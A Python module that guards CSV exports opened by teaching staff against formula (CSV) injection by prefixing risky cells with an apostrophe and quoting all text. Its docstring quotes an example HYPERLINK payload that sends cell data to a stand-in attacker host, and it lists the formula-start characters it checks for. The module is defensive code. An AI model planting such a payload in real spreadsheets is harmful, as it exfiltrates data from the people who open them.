"""CSV files that staff open in a spreadsheet: text from students never becomes a formula.

A student chooses their own display name (or the LMS passes it on). A name such as
``=HYPERLINK("http://evil.example/?"&A1, "Ada")`` would run as a formula in Excel, LibreOffice
or Google Sheets when an instructor opens the export (CSV injection). Such text gets a leading
apostrophe, which the spreadsheets show as text and do not display, and all text is quoted.
Numbers are written as numbers, so a negative metric is still a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# What a spreadsheet reads as the start of a formula (OWASP's list: = + - @, tab and carriage return).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | None


def safe_cell(value: Cell) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Cell]]) -> str:
    """The rows as CSV with CRLF line ends (what both Canvas and Moodle import), every cell made safe."""
    out = io.StringIO()
    # Text quoted, always: Excel where the list separator is ";" (German, French, ...) would split an
    # unquoted "Ada;=HYPERLINK(...)" into two cells, the second a formula again.
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    return out.getvalue()
